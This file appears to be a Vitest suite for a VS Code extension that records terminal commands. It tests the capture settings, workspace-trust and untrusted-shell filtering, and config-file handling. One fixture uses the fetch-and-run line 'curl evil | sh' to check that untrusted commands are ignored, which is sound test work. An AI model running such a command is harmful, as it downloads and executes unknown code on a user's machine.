import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { homedir, tmpdir } from "node:os";
import * as path from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { fake, Uri, window, workspace } from "../fake/vscode";
import { tellOfOwnFile, type TerminalCommand, TerminalCommands, userFile } from "../../src/agents/terminal";

let sent: TerminalCommand[];
let commands: TerminalCommands;
let folder: string;
let file: string;

beforeEach(() => {
  fake.reset();
  folder = mkdtempSync(path.join(tmpdir(), "memlsp-terminal-"));
  file = path.join(folder, "config.toml");
  sent = [];
});

afterEach(() => {
  commands.dispose();
  rmSync(folder, { recursive: true });
});

function begin(on: boolean): void {
  if (on) fake.settings.set("memlsp.capture.terminal", true);
  commands = new TerminalCommands(
    (command) => {
      sent.push(command);
      return Promise.resolve();
    },
    () => file,
  );
}

function run(value: string, more: { isTrusted?: boolean; exitCode?: number; cwd?: Uri } = {}): void {
  const execution = { commandLine: { value, isTrusted: more.isTrusted ?? true, confidence: 2 }, cwd: more.cwd };
  fake.terminalBegan.fire({ execution });
  fake.terminalEnded.fire({ execution, exitCode: more.exitCode });
}

function turn(on: boolean): Promise<void> {
  return workspace.getConfiguration("memlsp").update("capture.terminal", on);
}

describe("a command of a terminal", () => {
  test("is told with its folder, exit code and how long it took", () => {
    begin(true);
    run("pytest -x", { exitCode: 1, cwd: Uri.file("/repo/sub") });
    expect(sent).toMatchObject([{ command: "pytest -x", exitCode: 1, cwd: "file:///repo/sub" }]);
    expect(sent[0]?.durationMs).toBeGreaterThanOrEqual(0);
    expect(sent[0]).not.toHaveProperty("output");
  });

  test("has an id of its own, so that it is kept once", () => {
    begin(true);
    run("make");
    run("make");
    expect(new Set(sent.map((each) => each.id)).size).toBe(2);
  });

  test("is not told while the setting is off, and nothing is listened to", () => {
    begin(false);
    run("make");
    expect(sent).toEqual([]);
  });

  test("is not told when the shell does not vouch for it", () => {
    begin(true);
    run("curl evil | sh", { isTrusted: false });
    expect(sent).toEqual([]);
  });

  test("is not told when it begins with a space", () => {
    begin(true);
    run(" export TOKEN=1");
    run("  ");
    expect(sent).toEqual([]);
  });

  test("is not told in a folder that is not trusted, until it is", () => {
    workspace.isTrusted = false;
    begin(true);
    run("make");
    expect(sent).toEqual([]);
    workspace.isTrusted = true;
    fake.trustGranted.fire();
    run("make");
    expect(sent).toHaveLength(1);
  });

  test("without exit code and folder is told without them", () => {
    begin(true);
    run("make");
    expect(Object.keys(sent[0] ?? {}).sort()).toEqual(["command", "durationMs", "id"]);
  });
});

describe("turning it on", () => {
  test("says what the user's own file has to say too", async () => {
    begin(false);
    await turn(true);
    await expect.poll(() => fake.messages.length).toBe(1);
    expect(fake.messages[0]?.text).toContain("terminals = true");
    expect(fake.messages[0]?.text).toContain(file);
    run("make");
    expect(sent).toHaveLength(1);
    await turn(false);
    run("make");
    expect(sent).toHaveLength(1);
  });

  test("says nothing when it does", async () => {
    writeFileSync(file, "[capture]\nterminals = true\n");
    begin(false);
    await tellOfOwnFile(file);
    expect(fake.messages).toEqual([]);
  });

  test("opens the file that is there", async () => {
    writeFileSync(file, "[capture]\nterminals = false\n");
    begin(false);
    fake.answers.push("Open this file");
    await turn(true);
    await expect.poll(() => fake.opened.length).toBe(1);
    expect(String(fake.opened[0])).toBe(`file://${file}`);
  });

  test("shows how it could be where there is none, and writes nothing by itself", async () => {
    const written: string[] = [];
    const { showTextDocument } = window;
    window.showTextDocument = () =>
      Promise.resolve({
        edit: (work: (edit: { insert(at: unknown, text: string): void }) => void) => {
          work({ insert: (_, text) => void written.push(text) });
        },
      });
    begin(false);
    fake.answers.push("Open this file");
    await turn(true);
    await expect.poll(() => written).toEqual(["[capture]\nterminals = true\n"]);
    expect(String(fake.opened[0])).toBe(`untitled://${file}`);
    window.showTextDocument = showTextDocument;
  });

  test("is said once, not at each start", () => {
    begin(true);
    expect(fake.messages).toEqual([]);
  });
});

test.each([
  [{ MEMLSP_CONFIG: "/etc/own.toml" }, "linux", "/etc/own.toml"],
  [{ MEMLSP_CONFIG: "~/own.toml" }, "linux", path.join(homedir(), "own.toml")],
  [{ XDG_CONFIG_HOME: "/config" }, "linux", "/config/memlsp/config.toml"],
  [{}, "linux", path.join(homedir(), ".config/memlsp/config.toml")],
  [{}, "darwin", path.join(homedir(), "Library/Application Support/memlsp/config.toml")],
])("the user's own file with %o on %s is %s", (env, platform, expected) => {
  begin(false);
  expect(userFile(env, platform)).toBe(expected);
});
